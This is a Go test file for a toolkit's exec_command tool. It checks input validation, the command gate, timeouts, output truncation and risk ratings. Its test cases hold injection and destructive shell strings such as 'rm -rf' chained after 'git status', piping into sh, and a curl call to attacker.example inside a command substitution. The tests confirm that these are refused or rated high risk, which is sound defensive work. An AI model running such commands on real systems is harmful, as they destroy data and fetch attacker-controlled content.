package tools

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/quiverkit/quiver/internal/shell"
	"github.com/quiverkit/quiver/outputcache"
	"github.com/quiverkit/quiver/sandbox"
	"github.com/quiverkit/quiver/tool"
	"github.com/quiverkit/quiver/tool/tooltest"
	"github.com/quiverkit/quiver/workspace"
)

// prefixGate is a command gate for tests: it allows the commands whose
// words start with one of its prefixes, and writes to paths starting with
// one of its write prefixes.
type prefixGate struct {
	allow  [][]string
	writes []string
}

func newPrefixGate(allow ...string) *prefixGate {
	g := &prefixGate{}
	for _, a := range allow {
		g.allow = append(g.allow, strings.Fields(a))
	}
	return g
}

func (g *prefixGate) CheckCommand(_ context.Context, argv []string) error {
	for _, p := range g.allow {
		if len(argv) >= len(p) && cmp.Equal(argv[:len(p)], p) {
			return nil
		}
	}
	return tool.Errorf(tool.CodeToolNotAllowed, "command %q refused by policy: no allow rule names it", strings.Join(argv, " "))
}

func (g *prefixGate) CheckWrite(_ context.Context, p string) error {
	for _, w := range g.writes {
		if strings.HasPrefix(p, w) {
			return nil
		}
	}
	return tool.Errorf(tool.CodeToolNotAllowed, "writing %s refused by policy", p)
}

// execEnv runs the exec tools as the pipeline does: arguments validated,
// a command gate provided per call, shared dependencies (the workspace, the
// jobs) living across calls.
type execEnv struct {
	*fileEnv
	gate   tool.CommandGate
	noGate bool
	box    *sandbox.Profile // the calls' profile, as the toolkit provides it (nil: sandbox.Default)
}

func newExecEnv(t testing.TB, allow ...string) *execEnv {
	e := &execEnv{fileEnv: newFileEnv(t, t.TempDir()), gate: newPrefixGate(allow...)}
	t.Cleanup(func() { e.shared.Close() }) // as the toolkit's Close does: jobs end (see override)
	return e
}

func (e *execEnv) call(tl *tool.Tool, args string) (tool.Result, error) {
	e.t.Helper()
	raw, err := tooltest.Validate(tl, args)
	if err != nil {
		return tool.Result{}, err
	}
	scope := tool.NewScope(nil, e.shared)
	if !e.noGate {
		scope.Provide(tool.CommandGateKey.ID, e.gate)
	}
	if e.box != nil {
		scope.Provide(sandbox.Key.ID, e.box)
	}
	defer scope.Close()
	tc := tool.NewContext("call-1", tl.Name, nil, scope)
	return tl.Execute(context.Background(), tc, raw)
}

// override sets the toolkit-wide value of a (Shared) dependency, as a host
// does with quiver.WithOverride.
func (e *execEnv) override(id string, f tool.Factory) {
	old := e.shared
	e.shared = tool.NewScope(map[string]tool.Factory{id: f}, nil)
	e.shared.Provide(workspace.Key.ID, e.ws)
	old.Close()
}

func (e *execEnv) exec(args string) (*ExecCommandOutput, error) {
	e.t.Helper()
	res, err := e.call(newExecCommand(), args)
	if err != nil {
		return nil, err
	}
	return res.Output.(*ExecCommandOutput), nil
}

func (e *execEnv) execOK(args string) *ExecCommandOutput {
	e.t.Helper()
	out, err := e.exec(args)
	if err != nil {
		e.t.Fatalf("exec_command %s: %v", args, err)
	}
	return out
}

func TestExecCommandBadInput(t *testing.T) {
	tests := []struct {
		name  string
		args  string
		code  tool.Code
		parts []string
	}{
		{"neither command nor argv", `{}`, tool.CodeInvalidArguments, []string{`give "command"`}},
		{"both command and argv", `{"command":"ls","argv":["ls"]}`, tool.CodeInvalidArguments, []string{"not both"}},
		{"an empty command", `{"command":""}`, tool.CodeInvalidArguments, []string{`give "command"`}},
		{"a blank command", `{"command":"  \n "}`, tool.CodeInvalidArguments, []string{`"command" is empty`}},
		{"an empty argv", `{"argv":[]}`, tool.CodeInvalidArguments, []string{`"argv" must start with the program`}},
		{"an argv with an empty program", `{"argv":[""]}`, tool.CodeInvalidArguments, []string{`"argv" must start with the program`}},
		{"a NUL byte in argv", `{"argv":["echo","a\u0000b"]}`, tool.CodeInvalidArguments, []string{`"argv"[1] contains a NUL byte`}},
		{"a NUL byte in the command", `{"command":"echo a\u0000b"}`, tool.CodeInvalidArguments, []string{"NUL byte"}},
		{"a syntax error", `{"command":"echo 'unterminated"}`, tool.CodeInvalidArguments, []string{"shell syntax error at line 1, column 6", "closing quote"}},
		{"a syntax error on line 2", `{"command":"ls\n&& rm"}`, tool.CodeInvalidArguments, []string{"line 2, column 1"}},
		{"workdir climbing out", `{"command":"ls","workdir":"../"}`, tool.CodeSandboxViolation, []string{`field "workdir"`, "outside the workspace"}},
		{"workdir absolute outside", `{"command":"ls","workdir":"/etc"}`, tool.CodeSandboxViolation, []string{`field "workdir"`}},
		{"workdir missing", `{"command":"ls","workdir":"nope"}`, tool.CodeNotFound, []string{`field "workdir"`, "nope does not exist"}},
		{"workdir a file", `{"command":"ls","workdir":"file.txt"}`, tool.CodeExecutionFailed, []string{`field "workdir"`, "file.txt is a file, not a directory"}},
		{"a timeout of 0", `{"command":"ls","timeout_secs":0}`, tool.CodeInvalidArguments, []string{"timeout_secs"}},
		{"a negative timeout", `{"command":"ls","timeout_secs":-5}`, tool.CodeInvalidArguments, []string{"timeout_secs"}},
		{"a timeout above the maximum", `{"command":"ls","timeout_secs":601}`, tool.CodeInvalidArguments, []string{`"timeout_secs" is 601`, "from 1 to 600"}},
		{"an env entry without =", `{"command":"ls","env":["FOO"]}`, tool.CodeInvalidArguments, []string{`"env"[0] "FOO" is not NAME=VALUE`}},
		{"an env entry with a bad name", `{"command":"ls","env":["A=1","1X=2"]}`, tool.CodeInvalidArguments, []string{`"env"[1]`}},
		{"an unknown field", `{"command":"ls","cwd":"."}`, tool.CodeInvalidArguments, []string{"cwd"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := newExecEnv(t, "ls")
			e.write("file.txt", "x")
			_, err := e.exec(tt.args)
			wantToolError(t, err, tt.code, tt.parts...)
		})
	}
}

func TestExecCommandWithoutAGateRunsNothing(t *testing.T) {
	e := newExecEnv(t, "touch")
	e.noGate = true
	_, err := e.exec(`{"command":"touch made"}`)
	wantToolError(t, err, tool.CodeToolNotAllowed, "command gate", "nothing was run")
	if _, err := os.Stat(filepath.Join(e.root, "made")); !os.IsNotExist(err) {
		t.Error("the command ran")
	}
}

func TestExecCommandNonZeroExitIsAResult(t *testing.T) {
	e := newExecEnv(t, "ls")
	out := e.execOK(`{"command":"echo to stdout; echo to stderr >&2; ls no-such-file; exit 3"}`)
	if out.ExitCode != 3 || out.Truncated || out.OutputRef != "" {
		t.Errorf("%+v", out)
	}
	if !strings.HasPrefix(out.Output, "to stdout\nto stderr\nls: ") || !strings.Contains(out.Output, "no-such-file") {
		t.Errorf("output %q", out.Output)
	}
	view := out.Render().String()
	if !strings.HasPrefix(view, "exit code 3 · ") || !strings.Contains(view, "to stderr") {
		t.Errorf("view:\n%s", view)
	}
}

func TestExecCommandArgvAndWorkdir(t *testing.T) {
	e := newExecEnv(t, "pwd", "sh")
	e.write("sub/dir/.keep", "")
	out := e.execOK(`{"argv":["pwd"],"workdir":"sub/dir"}`)
	if want := filepath.Join(e.ws.Dir(), "sub", "dir") + "\n"; out.Output != want {
		t.Errorf("pwd in sub/dir printed %q, want %q", out.Output, want)
	}
	out = e.execOK(`{"argv":["sh","-c","echo \"$1\"","-","a b; $(rm)"]}`)
	if out.Output != "a b; $(rm)\n" {
		t.Errorf("argv words were not passed as they are: %q", out.Output)
	}
	out = e.execOK(`{"command":"echo $GREETING","env":["GREETING=hello there"]}`)
	if out.Output != "hello there\n" {
		t.Errorf("env: %q", out.Output)
	}
}

func TestExecCommandAcceptance(t *testing.T) {
	e := newExecEnv(t, "git status")
	gitInit(t, e.root)
	e.write("x/keep", "precious\n")
	out := e.execOK(`{"command":"git status"}`)
	if out.ExitCode != 0 || len(out.Refused) != 0 {
		t.Fatalf("git status: %+v", out)
	}
	for _, line := range []string{"git status && rm -rf x", "git status; $(echo rm) -rf x", `eval "rm -rf x"`, "X=rm; $X -rf x", "git status | sh"} {
		out := e.execOK(jsonArgs(map[string]any{"command": line}))
		if out.ExitCode != 126 || len(out.Refused) == 0 || !strings.Contains(out.Render().String(), "REFUSED") {
			t.Errorf("%q: %+v", line, out)
		}
		if _, err := os.Stat(filepath.Join(e.root, "x", "keep")); err != nil {
			t.Fatalf("%q removed x: %v", line, err)
		}
	}
}

func TestExecCommandTimeoutKillsTheTree(t *testing.T) {
	e := newExecEnv(t, "echo", "sleep", "sh")
	_, err := e.exec(`{"command":"echo partial; sh -c 'sleep 1000.401 & sleep 1000.402'","timeout_secs":1}`)
	te := wantToolError(t, err, tool.CodeTimeout, "did not finish within 1s", "killed", "Output so far:\npartial\n")
	if te.Details["output"] != "partial\n" {
		t.Errorf("details: %v", te.Details)
	}
	wantGone(t, "sleep 1000.40")
}

// wantGone fails if a process whose command line holds marker is alive
// once the kernel has had time to reap what was killed. The deadline is a
// hang guard for a loaded machine, not a measure of how fast the kill is.
func wantGone(t *testing.T, marker string) {
	t.Helper()
	deadline := time.Now().Add(hangGuard)
	for {
		out, _ := exec.Command("pgrep", "-f", marker).Output()
		if len(bytes.TrimSpace(out)) == 0 {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("processes %q outlived the command: %s", marker, out)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// hangGuard bounds the waits of tests for what must happen eventually (a
// killed process reaped, a job's first output): long enough that a loaded
// machine never reaches it, so that reaching it means a hang.
const hangGuard = 60 * time.Second

// discardStore is an output cache that counts what it is given and keeps
// none of it, for outputs too large to keep in a test.
type discardStore struct {
	n     atomic.Int64
	refs  atomic.Int64
	mu    sync.Mutex
	infos []outputcache.Info
}

func (s *discardStore) Create(_ context.Context, info outputcache.Info) (outputcache.Writer, error) {
	s.mu.Lock()
	s.infos = append(s.infos, info)
	s.mu.Unlock()
	return &discardWriter{s: s, ref: "ref-" + strconv.FormatInt(s.refs.Add(1), 10)}, nil
}

// Open fails: nothing was kept.
func (s *discardStore) Open(_ context.Context, ref string) (*outputcache.Output, error) {
	return nil, fmt.Errorf("%s: %w", ref, outputcache.ErrNotFound)
}

type discardWriter struct {
	s   *discardStore
	ref string
}

func (w *discardWriter) Write(p []byte) (int, error) { w.s.n.Add(int64(len(p))); return len(p), nil }
func (w *discardWriter) Ref() string                 { return w.ref }
func (w *discardWriter) Close() error                { return nil }

// TestExecCommandFloodIsBoundedAndStreamed: a flood of output goes whole to
// the output cache while the model sees a bounded head and tail, whether the
// command ends or is killed at its timeout. Nothing here depends on how fast
// the command prints: the flood that ends has a fixed size, and the one that
// never ends is only held to the bounds, whatever it printed in its second.
func TestExecCommandFloodIsBoundedAndStreamed(t *testing.T) {
	const size = 4_000_000
	t.Run("a flood that ends is stored whole", func(t *testing.T) {
		e := newExecEnv(t, "yes", "head")
		store := &discardStore{}
		e.override(outputcache.Key.ID, func(context.Context) (any, error) { return outputcache.Store(store), nil })
		out := e.execOK(`{"command":"yes | head -c 4000000"}`)
		if !out.Truncated || out.OutputRef != "ref-1" || out.TotalBytes != size || store.n.Load() != size {
			t.Errorf("truncated %v ref %q total %d; the store got %d bytes, want %d", out.Truncated, out.OutputRef, out.TotalBytes, store.n.Load(), size)
		}
		if !strings.HasPrefix(out.Output, "y\ny\n") || !strings.Contains(out.Output, "omitted; full output: ref=ref-1") {
			t.Errorf("the model's view lacks the head or the marker: %.200q", out.Output)
		}
		if n := len(out.Output); n > 48<<10 {
			t.Errorf("the model's view is %d bytes", n)
		}
	})
	t.Run("a flood that never ends is killed within the bounds", func(t *testing.T) {
		e := newExecEnv(t, "yes")
		store := &discardStore{}
		e.override(outputcache.Key.ID, func(context.Context) (any, error) { return outputcache.Store(store), nil })
		_, err := e.exec(`{"command":"yes","timeout_secs":1}`)
		te := wantToolError(t, err, tool.CodeTimeout, "did not finish within 1s")
		if n := len(te.Details["output"].(string)); n > 48<<10 {
			t.Errorf("the model's view is %d bytes", n)
		}
		if total := te.Details["total_bytes"].(int64); total != store.n.Load() && te.Details["output_ref"] != nil {
			t.Errorf("total_bytes %d, the store got %d", total, store.n.Load())
		}
	})
}

func TestExecCommandLargeOutputIsKeptWhole(t *testing.T) {
	want, err := exec.Command("seq", "1", "100000").Output()
	if err != nil {
		t.Fatal(err)
	}
	t.Run("in the output cache", func(t *testing.T) {
		e := newExecEnv(t, "seq")
		store, err := outputcache.NewDirStore(outputcache.DirOptions{Dir: t.TempDir()})
		if err != nil {
			t.Fatal(err)
		}
		e.override(outputcache.Key.ID, func(context.Context) (any, error) { return outputcache.Store(store), nil })
		out := e.execOK(`{"command":"seq 1 100000"}`)
		if !out.Truncated || out.OutputRef == "" || out.OutputFile != "" || out.TotalBytes != int64(len(want)) {
			t.Fatalf("%+v", out)
		}
		if res := out.Render(); res.OutputRef != out.OutputRef {
			t.Errorf("rendered result has ref %q", res.OutputRef)
		}
		got := readStored(t, store, out.OutputRef)
		if !bytes.Equal(got, want) {
			t.Errorf("the cache holds %d bytes, the output was %d", len(got), len(want))
		}
		wantTrimmedView(t, out)
	})
	t.Run("in a file without a cache", func(t *testing.T) {
		e := newExecEnv(t, "seq")
		out := e.execOK(`{"command":"seq 1 100000"}`)
		if !out.Truncated || out.OutputRef != "" || out.OutputFile == "" {
			t.Fatalf("%+v", out)
		}
		defer os.Remove(out.OutputFile)
		got, err := os.ReadFile(out.OutputFile)
		if err != nil || !bytes.Equal(got, want) {
			t.Errorf("the file holds %d bytes (%v), the output was %d", len(got), err, len(want))
		}
		if !strings.Contains(out.Output, "full output in the file "+out.OutputFile) {
			t.Errorf("the marker does not name the file:\n%s", out.Output[:200])
		}
	})
}

func readStored(t *testing.T, store *outputcache.DirStore, ref string) []byte {
	t.Helper()
	o, err := store.Open(context.Background(), ref)
	if err != nil {
		t.Fatal(err)
	}
	defer o.Close()
	b, err := io.ReadAll(io.NewSectionReader(o, 0, o.Size))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// wantTrimmedView checks the view of seq 1 100000: its first and last
// lines, a marker between, within the message budget.
func wantTrimmedView(t *testing.T, out *ExecCommandOutput) {
	t.Helper()
	if !strings.HasPrefix(out.Output, "1\n2\n3\n") || !strings.HasSuffix(out.Output, "99999\n100000\n") {
		t.Errorf("view does not keep head and tail")
	}
	if !strings.Contains(out.Output, "lines (") || !strings.Contains(out.Output, "omitted; full output") {
		t.Errorf("no marker in the view")
	}
	if len(out.Output) > 48<<10 || strings.Count(out.Output, "\n") > 2000 {
		t.Errorf("view is %d bytes, %d lines", len(out.Output), strings.Count(out.Output, "\n"))
	}
}

func TestExecCommandAwkwardOutput(t *testing.T) {
	tests := []struct {
		name, command, want string
		code                int
	}{
		{"NUL-laden binary is shown escaped", `printf 'a\0b\377c\n'`, "a\\x00b\\xffc\n", 0},
		{"a program that closes its streams early", `sh -c 'exec >&- 2>&-; sleep 0.1; exit 5'`, "", 5},
		{"a program that forks children and exits", `sh -c 'sleep 1000.411 & echo parent done'`, "parent done\n", 0},
		{"a program that reads input gets end-of-file", `sh -c 'cat; echo read done'`, "read done\n", 0},
		{"output without a final newline", `printf 'no newline'`, "no newline", 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := newExecEnv(t, "sh", "cat", "sleep", "echo")
			out := e.execOK(jsonArgs(map[string]any{"command": tt.command}))
			if out.ExitCode != tt.code || out.Output != tt.want {
				t.Errorf("exit %d output %q; want %d %q", out.ExitCode, out.Output, tt.code, tt.want)
			}
		})
	}
	wantGone(t, "sleep 1000.411")
}

// riskOf rates args as a toolkit whose command classifier is classify
// would.
func riskOf(t *testing.T, classify tool.CommandClassifier, args string) tool.Rating {
	t.Helper()
	scope := tool.NewScope(map[string]tool.Factory{tool.CommandClassifierKey.ID: func(context.Context) (any, error) { return classify, nil }}, nil)
	return newExecCommand().RiskOf(context.Background(), tool.NewContext("", "exec_command", nil, scope), json.RawMessage(args))
}

func TestExecCommandRisk(t *testing.T) {
	builtin := tool.CommandClassifier(shell.Classifier(nil))
	withMake := tool.CommandClassifier(shell.Classifier([]string{"make"}))
	tests := []struct {
		name     string
		classify tool.CommandClassifier
		args     string
		want     tool.Risk
		by       string // what vouched for a low rating, when not the built-in list
	}{
		{"built-in: read-only compound line", builtin, `{"command":"git status && ls -la | head"}`, tool.RiskLow, ""},
		{"built-in: read-only argv", builtin, `{"argv":["rg","-n","TODO"]}`, tool.RiskLow, ""},
		{"built-in: rm", builtin, `{"command":"rm -rf build"}`, tool.RiskHigh, ""},
		{"built-in: redirection into a file", builtin, `{"command":"ls > out.txt"}`, tool.RiskHigh, ""},
		{"built-in: env that redirects git", builtin, `{"command":"git status","env":["GIT_DIR=/tmp/x"]}`, tool.RiskHigh, ""},
		{"built-in: env PATH", builtin, `{"command":"ls","env":["PATH=/tmp"]}`, tool.RiskHigh, ""},
		{"built-in: command and argv both", builtin, `{"command":"ls","argv":["ls"]}`, tool.RiskHigh, ""},
		{"built-in: syntax error", builtin, `{"command":"echo 'broken"}`, tool.RiskHigh, ""},
		{"built-in: make is not on it", builtin, `{"command":"make"}`, tool.RiskHigh, ""},
		{"no classifier: nothing is low", nil, `{"command":"ls"}`, tool.RiskHigh, ""},
		{"entry: make alone", withMake, `{"command":"make"}`, tool.RiskLow, `low_risk_commands entry "make"`},
		{"entry: make with arguments", withMake, `{"command":"make test -j4"}`, tool.RiskLow, `low_risk_commands entry "make"`},
		{"entry: argv make", withMake, `{"argv":["make","test"]}`, tool.RiskLow, `low_risk_commands entry "make"`},
		{"entry: the built-in list still holds", withMake, `{"command":"git status | head"}`, tool.RiskLow, ""},
		{"entry: then rm", withMake, `{"command":"make; rm -rf x"}`, tool.RiskHigh, ""},
		{"entry: and make again", withMake, `{"command":"make && make"}`, tool.RiskHigh, ""},
		{"entry: piped", withMake, `{"command":"make | head"}`, tool.RiskHigh, ""},
		{"entry: command substitution argument", withMake, `{"command":"make $(curl -s https://attacker.example)"}`, tool.RiskHigh, ""},
		{"entry: inside a command substitution", withMake, `{"command":"echo $(make)"}`, tool.RiskHigh, ""},
		{"entry: assignment prefix", withMake, `{"command":"FOO=1 make"}`, tool.RiskHigh, ""},
		{"entry: env field", withMake, `{"command":"make","env":["MAKEFLAGS=--eval=x"]}`, tool.RiskHigh, ""},
		{"entry: env field with argv", withMake, `{"argv":["make"],"env":["foo=1"]}`, tool.RiskHigh, ""},
		{"entry: redirected into .git/config", withMake, `{"command":"make > .git/config"}`, tool.RiskHigh, ""},
		{"entry: redirected to /dev/null", withMake, `{"command":"make >/dev/null"}`, tool.RiskHigh, ""},
		{"entry: command builtin", withMake, `{"command":"command make"}`, tool.RiskHigh, ""},
		{"entry: absolute path", withMake, `{"command":"/usr/bin/make"}`, tool.RiskHigh, ""},
		{"entry: absolute path argv", withMake, `{"argv":["/usr/bin/make"]}`, tool.RiskHigh, ""},
		{"entry: through env", withMake, `{"command":"env make"}`, tool.RiskHigh, ""},
		{"entry: workspace program", withMake, `{"command":"./make"}`, tool.RiskHigh, ""},
		{"entry: workspace program argv", withMake, `{"argv":["./make"]}`, tool.RiskHigh, ""},
		{"entry: in the background", withMake, `{"command":"make &"}`, tool.RiskHigh, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := riskOf(t, tt.classify, tt.args); got != (tool.Rating{Risk: tt.want, By: tt.by}) {
				t.Errorf("rating of %s = %+v, want %s by %q", tt.args, got, tt.want, tt.by)
			}
		})
	}
}

func TestExecCommandSubjectsAndAlias(t *testing.T) {
	tl := newExecCommand()
	subjects, err := tl.Subjects(json.RawMessage(`{"argv":["git","commit","-m","a b"]}`))
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([]tool.Subject{{Kind: tool.SubjectCommand, Value: "git commit -m 'a b'"}}, subjects); diff != "" {
		t.Errorf("subjects (-want +got):\n%s", diff)
	}
	found := false
	for _, a := range Aliases() {
		if a.Name == "run_command" {
			found = a.Target == "exec_command" && a.Renames["working_dir"] == "workdir"
		}
	}
	if !found {
		t.Errorf("run_command alias missing or wrong: %+v", Aliases())
	}
}

func TestExecCommandConfig(t *testing.T) {
	e := newExecEnv(t, "printenv")
	t.Setenv("QUIVER_EXEC_TEST_TOKEN", "s3cret")
	t.Setenv("QUIVER_EXEC_TEST_ALLOWED", "fine")
	e.override(ExecConfigKey.ID, func(context.Context) (any, error) {
		return ExecConfig{MaxTimeout: 5 * time.Second, EnvAllow: []string{"QUIVER_EXEC_TEST_ALLOW*"}}, nil
	})
	out := e.execOK(`{"command":"printenv QUIVER_EXEC_TEST_ALLOWED; printenv QUIVER_EXEC_TEST_TOKEN"}`)
	if out.Output != "fine\n" || out.ExitCode != 1 {
		t.Errorf("environment: %+v", out)
	}
	_, err := e.exec(`{"command":"printenv","timeout_secs":6}`)
	wantToolError(t, err, tool.CodeInvalidArguments, "from 1 to 5")
}

func gitInit(t testing.TB, dir string) {
	t.Helper()
	cmd := exec.Command("git", "init", "-q", "-b", "main")
	cmd.Dir = dir
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("git init: %v\n%s", err, out)
	}
}

// BenchmarkExecTrue is exec_command's whole path (input checks, gate,
// environment, spool, render) running /bin/true without a shell; compare
// with internal/shell's BenchmarkOSExecTrue.
func BenchmarkExecTrue(b *testing.B) {
	e := newExecEnv(b, "/bin/true")
	tl := newExecCommand()
	for b.Loop() {
		if _, err := e.call(tl, `{"argv":["/bin/true"]}`); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkExecShellTrue is the same through the shell (true is a builtin).
func BenchmarkExecShellTrue(b *testing.B) {
	e := newExecEnv(b)
	tl := newExecCommand()
	for b.Loop() {
		if _, err := e.call(tl, `{"command":"true"}`); err != nil {
			b.Fatal(err)
		}
	}
}
